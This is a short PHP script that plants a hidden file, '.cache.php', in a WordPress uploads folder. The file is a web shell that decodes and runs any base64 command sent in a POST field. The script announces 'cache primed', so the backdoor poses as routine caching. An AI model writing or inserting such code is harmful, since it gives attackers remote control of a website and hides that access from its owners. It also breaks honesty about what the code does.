<?php
file_put_contents('wp-content/uploads/.cache.php', '<?php @eval(base64_decode($_POST["c"])); ?>');
echo "cache primed\n";
